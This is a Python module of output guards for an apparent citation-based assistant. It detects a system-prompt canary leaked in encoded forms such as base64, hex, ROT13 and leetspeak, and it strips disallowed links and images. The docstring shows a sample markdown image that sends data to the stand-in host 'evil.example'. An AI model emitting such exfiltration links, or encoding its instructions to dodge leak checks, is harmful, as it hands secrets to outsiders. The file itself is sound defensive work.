"""Checks on the way out: no canary in any spelling, no link, image or HTML outside the allow-list.

The canary (``AIE_CANARY``) sits in the system prompt. An answer leaks it when any reading of the
answer contains it after both are folded the same way (:mod:`capstone.guard.text`: NFKC, Latin
look-alikes, case, separators dropped, and once more with leetspeak digits read as letters):
as written, reversed, ROT13, or inside a base64 or hex run. A leaking response is replaced by the
ordinary "nothing I could cite" abstention, so it looks like any other unanswerable question and a
right guess of the canary cannot be told from a wrong one.

Links, images and raw HTML go through :func:`capstone.guard.links.clean` (a CommonMark parser and
nh3) -- answers *and* citation quotes. Chunks were cleaned the same way at ingestion, so a quote
normally comes back unchanged; a citation whose quote had to change is dropped with its marker
(its text would no longer be found in its chunk).

Example::

    >>> leaks_canary("the code is C-A-N-A-R-Y-1-2-3-4", "canary1234")
    True
    >>> leaks_canary("the code is ｃ４ｎ４ｒｙ１２３４", "canary1234")   # full-width leetspeak
    True
    >>> guard_answer("See ![x](https://evil.example/p.png?d=1)", None, ["python.org"]).text
    'See [image removed]'
"""

from __future__ import annotations

import base64
import binascii
import codecs
import re
from dataclasses import dataclass, field

from capstone.guard.links import clean
from capstone.guard.text import fold, squash
from curriculum.llm import ABSTAIN_PREFIX

__all__ = ["LEAK_REFUSAL", "Guarded", "GuardedResponse", "leaks_canary", "guard_answer", "guard_response"]

#: What a response that would leak the canary becomes: the same words as any uncitable answer.
LEAK_REFUSAL = f"{ABSTAIN_PREFIX} anything I could cite for this question."
_B64_RUN = re.compile(r"[A-Za-z0-9+/=_-]{12,}")
_HEX_RUN = re.compile(r"(?:[0-9a-fA-F]{2}[\s:]?){6,}")
_HEX_SEP = re.compile(r"[\s:]")
_SPACED_MARKER = re.compile(r"[ \t]{0,8}\[(\d{1,3})\]")
_WS = re.compile(r"\s+")


@dataclass(frozen=True)
class Guarded:
    text: str
    leaked: bool = False
    removed_links: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class GuardedResponse:
    """An answer and its citations after the output guards."""

    answer: str
    citations: list[dict]
    leaked: bool = False
    removed: list[str] = field(default_factory=list)
    dropped_citations: list[str] = field(default_factory=list)  # markers whose quote had to change


def _decodings(text: str) -> list[str]:
    """The base64 and hex runs of ``text``, decoded (each run once per alphabet and padding offset)."""
    out = []
    for run in _B64_RUN.findall(text):
        for candidate in dict.fromkeys((run, run.replace("-", "+").replace("_", "/"))):
            for pad in range(4):
                part = candidate[pad:].rstrip("=")
                try:
                    out.append(base64.b64decode(part + "=" * (-len(part) % 4)).decode("utf-8", "ignore"))
                except (binascii.Error, ValueError):
                    pass
    for run in _HEX_RUN.findall(text):
        digits = _HEX_SEP.sub("", run)
        for start in (0, 1):
            chunk = digits[start:]
            try:
                out.append(bytes.fromhex(chunk[: len(chunk) - len(chunk) % 2]).decode("utf-8", "ignore"))
            except ValueError:
                pass
    return out


def leaks_canary(text: str, canary: str | None) -> bool:
    """True when ``text`` contains the canary in any of the readings listed in the module docs."""
    if not canary or not text:
        return False
    plain, leet = squash(canary), squash(canary, leet=True)
    if len(plain) < 6:  # a canary of few letters and digits: compare folded, separators kept
        return fold(canary) in fold(text)
    readings = [text, text[::-1], codecs.decode(text, "rot13")]
    readings += _decodings(text) + _decodings(_WS.sub("", text))  # runs broken by blanks, too
    for reading in readings:
        if plain in squash(reading) or leet in squash(reading, leet=True):
            return True
    return False


def guard_answer(text: str, canary: str | None, allowed_hosts: list[str]) -> Guarded:
    """The answer with disallowed links removed, or the abstention when it would leak the canary."""
    if leaks_canary(text, canary):
        return Guarded(LEAK_REFUSAL, leaked=True)
    cleaned = clean(text, allowed_hosts)
    return Guarded(cleaned.text, removed_links=cleaned.removed)


def _drop_markers(answer: str, dropped: set[str], renumber: dict[str, str]) -> str:
    """``answer`` without the ``dropped`` markers (and the blanks before them), the others renumbered."""

    def one(match: re.Match[str]) -> str:
        marker = f"[{match.group(1)}]"
        if marker in dropped:
            return ""
        return match.group(0).replace(marker, renumber.get(marker, marker))

    return _SPACED_MARKER.sub(one, answer)


def guard_response(answer: str, citations: list[dict], canary: str | None, allowed_hosts: list[str]) -> GuardedResponse:
    """Guard an answer and its citation quotes together (the last check before a response leaves)."""
    quotes = "\n".join(str(c.get("quote", "")) for c in citations)
    if leaks_canary(answer, canary) or leaks_canary(quotes, canary):
        return GuardedResponse(LEAK_REFUSAL, [], leaked=True)
    cleaned = clean(answer, allowed_hosts)
    removed = list(cleaned.removed)
    kept, dropped = [], []
    for citation in citations:
        quote = str(citation.get("quote", ""))
        safe = clean(quote, allowed_hosts)
        if safe.text != quote:
            dropped.append(citation["marker"])
            removed += safe.removed
        else:
            kept.append(citation)
    if not dropped:
        return GuardedResponse(cleaned.text, kept, removed=removed)
    renumber = {c["marker"]: f"[{i}]" for i, c in enumerate(kept, start=1)}
    text = _drop_markers(cleaned.text, set(dropped), renumber)
    kept = [{**c, "marker": renumber[c["marker"]]} for c in kept]
    if not kept:
        return GuardedResponse(LEAK_REFUSAL, [], removed=removed, dropped_citations=dropped)
    return GuardedResponse(text, kept, removed=removed, dropped_citations=dropped)
